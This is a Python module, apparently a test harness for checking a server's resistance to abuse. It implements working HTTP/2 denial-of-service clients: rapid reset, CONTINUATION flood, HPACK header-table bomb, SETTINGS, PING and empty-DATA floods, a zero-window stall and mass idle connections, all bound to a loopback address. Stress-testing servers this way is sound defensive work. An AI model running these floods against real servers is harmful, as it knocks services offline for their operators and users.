"""Clients of HTTP/2 that mean harm, each as an attack that runs until its time is over."""
import contextlib
import socket
import sys
import threading
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "hostile"))

from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,  # noqa: E402
                   call_headers, frame, literal, open_stream, settings)

HARMFUL = "127.0.0.9"  # the address they come from: what one address may take is bounded, and others' share is their own


class Http2:
    """A connection that has said hello; whatever comes is read and thrown away, or not read at all. A context manager."""

    def __init__(self, address, reads=True, window=None):
        host, port = address.rsplit(":", 1)
        self.socket = socket.socket()
        if not reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.settimeout(5)
        greeting = PREFACE + (settings() if window is None else settings(window=window))
        try:
            self.socket.bind((HARMFUL, 0))
            self.socket.connect((host, int(port)))
            self.socket.sendall(greeting)
        except OSError:
            self.socket.close()
            raise
        if reads:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        try:
            while self.socket.recv(1 << 16):
                pass
        except OSError:
            pass

    def send(self, frames):
        """False once the other side has had enough."""
        try:
            self.socket.sendall(frames)
            return True
        except OSError:
            return False

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()


def repeat(seconds, attack):
    """Calls it, each time anew when it has ended, until the time is over."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            attack(end)
        except OSError:
            time.sleep(0.01)


def rapid_reset(address, path):
    """Calls that are taken back as soon as they are made."""
    def attack(end):
        with Http2(address) as client:
            stream = 1
            while time.monotonic() < end:
                batch = b""
                for _ in range(100):
                    batch += open_stream(stream, path) + frame(RST_STREAM, 0, stream, bytes(4))
                    stream += 2
                if not client.send(batch):
                    return
    return attack


def continuation_flood(address, path):
    """A head that never ends."""
    more = frame(CONTINUATION, 0, 1, literal("x-a", "b" * 100) * 100) * 16

    def attack(end):
        with Http2(address) as client:
            client.send(frame(HEADERS, 0, 1, call_headers(path)))
            while time.monotonic() < end and client.send(more):
                pass
    return attack


def head_bomb(address, path):
    """One long header in the peer's table, named again and again by one byte."""
    entry = b"\x40\x01x" + b"\x7f" + bytes([0x80 | (3000 - 127) & 0x7F, (3000 - 127) >> 7]) + b"y" * 3000

    def attack(end):
        with Http2(address) as client:
            stream = 1
            while time.monotonic() < end:
                if not client.send(frame(HEADERS, END_HEADERS, stream, call_headers(path) + entry + b"\xbe" * 12_000)):
                    return
                stream += 2
    return attack


def frame_flood(kind, payload):
    def of(address, _):
        flood = frame(kind, 0, 0, payload) * 500

        def attack(end):
            with Http2(address) as client:
                while time.monotonic() < end and client.send(flood):
                    pass
        return attack
    return of


def empty_data_flood(address, path):
    """A message that is sent as nothing, without end."""
    def attack(end):
        with Http2(address) as client:
            client.send(open_stream(1, path))
            while time.monotonic() < end and client.send(frame(DATA, 0, 1) * 500):
                pass
    return attack


def closed_window(address, _):
    """Many answers asked for, none taken."""
    ask = b"\x82\x86\x44\x0d/openapi.yaml\x41\x01a"

    def attack(end):
        with Http2(address, reads=False, window=0) as client:
            for stream in range(1, 129, 2):
                client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, ask))
            time.sleep(max(0, min(0.3, end - time.monotonic())))
    return attack


def silent_crowd(address, _):
    """Connections that say hello and no more."""
    def attack(end):
        with contextlib.ExitStack() as crowd:
            for _ in range(200):
                crowd.enter_context(Http2(address))
            time.sleep(max(0, min(0.3, end - time.monotonic())))
    return attack


ATTACKS = {"rapid reset": rapid_reset, "continuation flood": continuation_flood, "head bomb": head_bomb,
           "settings flood": frame_flood(SETTINGS, b""), "ping flood": frame_flood(PING, bytes(8)),
           "empty data flood": empty_data_flood, "closed window": closed_window, "silent crowd": silent_crowd}
